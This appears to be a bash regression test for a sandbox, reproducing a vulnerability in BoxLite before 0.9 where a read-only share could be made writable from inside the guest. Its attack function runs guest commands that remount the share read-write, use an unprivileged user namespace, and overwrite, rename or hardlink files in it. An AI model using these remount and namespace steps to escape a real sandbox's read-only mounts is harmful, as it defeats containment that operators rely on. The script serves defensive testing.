#!/bin/bash
# CVE-2026-46695, BoxLite before 0.9: a share that was given read-only was made writable from inside,
# because only a mount option of the guest said so and the guest kept the right to mount.
# Escaped: something is written to a directory that was granted for reading.
# shellcheck disable=SC2317,SC2034
NEEDS="readonly"
. "${0%/*}/../lib.sh"
prepare() { echo original >"$OUT/file" && chmod -R u+w "$OUT"; READ=("$OUT"); }
escaped() { marked || [ "$(cat "$OUT/file")" != original ]; }
attack() { probe remount "$OUT"; inside 'mount -o remount,rw "$OUT"; mount -o remount,rw,bind "$OUT"; touch "$OUT/marker"; echo evil >"$OUT/file"; chmod 777 "$OUT"; mv "$OUT/file" "$OUT/other"; ln "$OUT/file" here && echo evil >here; unshare -Urm sh -c "mount -o remount,rw,bind $OUT; touch $OUT/marker"'; }
attempt "remount"
